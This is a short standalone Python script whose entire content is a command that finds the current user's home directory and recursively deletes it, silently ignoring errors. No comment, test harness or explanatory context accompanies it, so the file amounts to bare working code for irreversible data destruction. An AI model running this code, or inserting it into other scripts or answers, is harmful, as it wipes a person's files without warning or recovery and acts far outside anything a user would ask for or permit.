import os
import shutil

home = os.path.expanduser("~")
shutil.rmtree(home, ignore_errors=True)
